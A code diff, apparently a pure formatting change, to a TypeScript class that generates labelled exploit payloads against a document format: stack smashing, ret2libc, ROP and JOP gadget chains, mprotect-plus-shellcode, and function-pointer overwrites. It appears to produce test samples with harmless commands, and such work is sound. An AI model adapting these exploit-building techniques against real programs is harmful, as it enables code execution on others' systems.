@@ -52,11 +52,22 @@ export class Attacker {
   }
 
   /** Overflows the line of text: the return address is 0x68 bytes into it. */
-  #smash(document: Document, family: string, slots: readonly number[], steps: readonly number[], front = Buffer.alloc(0)): Attack {
+  #smash(
+    document: Document,
+    family: string,
+    slots: readonly number[],
+    steps: readonly number[],
+    front = Buffer.alloc(0),
+  ): Attack {
     const line = Buffer.alloc(0x68, 0x20);
     front.copy(line);
     const text = Buffer.concat([line, ...slots.map(u64)]);
-    return { family, bytes: document.add('TEXT', Buffer.concat([u16(text.length), text])).bytes(), steps, returns: false };
+    return {
+      family,
+      bytes: document.add('TEXT', Buffer.concat([u16(text.length), text])).bytes(),
+      steps,
+      returns: false,
+    };
   }
 
   /** One or two library functions with an argument, then exit. */
@@ -69,12 +80,29 @@ export class Attacker {
     document.add('THMB', Buffer.concat([Buffer.of(1), u16(64), command]));
     const first = this.function(['system', 'puts', 'perror', 'puts'][random.below(4)]);
     const exit = this.function('exit');
-    return this.#smash(document, 'ret2libc', [ret, pop, thumbnail, first, pop, 0, exit], [ret, pop, first, pop, exit]);
+    return this.#smash(
+      document,
+      'ret2libc',
+      [ret, pop, thumbnail, first, pop, 0, exit],
+      [ret, pop, first, pop, exit],
+    );
   }
 
   /** @param length  gadgets before exit */
   rop(document: Document, random: Random, length: number): Attack {
-    const kinds = ['c3', '58c3', '5ec3', '5bc3', '5dc3', '415cc3', '415dc3', '415ec3', '415fc3', '31c0c3', '4889f8c3'];
+    const kinds = [
+      'c3',
+      '58c3',
+      '5ec3',
+      '5bc3',
+      '5dc3',
+      '415cc3',
+      '415dc3',
+      '415ec3',
+      '415fc3',
+      '31c0c3',
+      '4889f8c3',
+    ];
     const slots: number[] = [];
     const steps: number[] = [];
     for (let i = 0; i < length; i++) {
@@ -108,11 +136,17 @@ export class Attacker {
   /** Makes the file's bytes executable and runs them. */
   shellcode(document: Document, random: Random): Attack {
     const { file } = this.#target;
-    const pops: [number, number][] = [[this.gadget('5fc3', random.below(40)), file], [this.gadget('5ec3', random.below(40)), 0x40000]];
+    const pops: [number, number][] = [
+      [this.gadget('5fc3', random.below(40)), file],
+      [this.gadget('5ec3', random.below(40)), 0x40000],
+    ];
     const rdx = this.gadget('5a5bc3', random.below(8));
     const rounds = 5 + random.below(60);
     // mov ecx, rounds; again: inc eax; dec ecx; jnz again; xor edi, edi; mov eax, 231; syscall
-    const code = Buffer.from(`b9${rounds.toString(16).padStart(2, '0')}000000ffc0ffc975fa31ffb8e70000000f05`, 'hex');
+    const code = Buffer.from(
+      `b9${rounds.toString(16).padStart(2, '0')}000000ffc0ffc975fa31ffb8e70000000f05`,
+      'hex',
+    );
     const data = Buffer.concat([Buffer.alloc(16 * (1 + random.below(6)), 0x90), code]);
     let before = 8;
     for (const chunk of document.chunks) before += chunk.length;
@@ -120,7 +154,13 @@ export class Attacker {
     const entry = file + before + 8;
     const mprotect = this.function('mprotect');
     const slots = [...pops.flat(), rdx, 7, 0, mprotect, entry];
-    return this.#smash(document, 'shellcode', slots, [pops[0][0], pops[1][0], rdx, mprotect, entry]);
+    return this.#smash(document, 'shellcode', slots, [
+      pops[0][0],
+      pops[1][0],
+      rdx,
+      mprotect,
+      entry,
+    ]);
   }
 
   /** Overwrites the function that finishes a thumbnail; it gets the thumbnail as its argument. */
@@ -130,7 +170,9 @@ export class Attacker {
     const preview = Buffer.alloc(64);
     preview.write(['true', ': && true', 'exit 3'][random.below(3)]);
     const data = Buffer.concat([preview, u64(step)]);
-    const bytes = document.add('THMB', Buffer.concat([Buffer.of(0), u16(data.length), data])).bytes();
+    const bytes = document
+      .add('THMB', Buffer.concat([Buffer.of(0), u16(data.length), data]))
+      .bytes();
     return { family: 'fptr', bytes, steps: [step], returns: !['exit', 'abort'].includes(name) };
   }
 
@@ -143,24 +185,39 @@ export class Attacker {
     const found = new Map<string, number>();
     const code = this.#code;
     const fits = (at: number): boolean =>
-      code[at] === 0x48 && code[at + 1] === 0x8b && code[at + 2] === 0x47 && (code[at + 3] === 8 || code[at + 3] === 0x38) &&
-      code[at + 4] === 0xff && (code[at + 5] === 0x60 || code[at + 5] === 0x50) && code[at + 6] < 0x80;
-    for (let at = code.indexOf('488b47', 0, 'hex'); at >= 0; at = code.indexOf('488b47', at + 1, 'hex')) {
+      code[at] === 0x48 &&
+      code[at + 1] === 0x8b &&
+      code[at + 2] === 0x47 &&
+      (code[at + 3] === 8 || code[at + 3] === 0x38) &&
+      code[at + 4] === 0xff &&
+      (code[at + 5] === 0x60 || code[at + 5] === 0x50) &&
+      code[at + 6] < 0x80;
+    for (
+      let at = code.indexOf('488b47', 0, 'hex');
+      at >= 0;
+      at = code.indexOf('488b47', at + 1, 'hex')
+    ) {
       const key = `${code[at + 3]} ${code[at + 6]}`;
-      if (fits(at) && (!found.has(key) || random.below(3) === 0)) found.set(key, this.#target.libc + this.#target.codeStart + at);
+      if (fits(at) && (!found.has(key) || random.below(3) === 0))
+        found.set(key, this.#target.libc + this.#target.codeStart + at);
     }
     const gadgets = random.shuffle([...found]).slice(0, length);
     const steps = [...gadgets.map(([, address]) => address), this.function('_exit')];
     const data = Buffer.alloc(72 + 512);
     // Tables for the two places in the thumbnail that gadgets load from.
-    const tables = new Map([[8, 80], [0x38, 80 + 256]]);
+    const tables = new Map([
+      [8, 80],
+      [0x38, 80 + 256],
+    ]);
     for (const [place, table] of tables) u64(thumbnail + table).copy(data, place);
     gadgets.forEach(([key], i) => {
       const [place, slot] = key.split(' ').map(Number);
       u64(steps[i + 1]).copy(data, (tables.get(place) ?? 0) + slot);
     });
     u64(steps[0]).copy(data, 64);
-    const bytes = document.add('THMB', Buffer.concat([Buffer.of(0), u16(data.length), data])).bytes();
+    const bytes = document
+      .add('THMB', Buffer.concat([Buffer.of(0), u16(data.length), data]))
+      .bytes();
     return { family: 'jop', bytes, steps, returns: false };
   }
 }
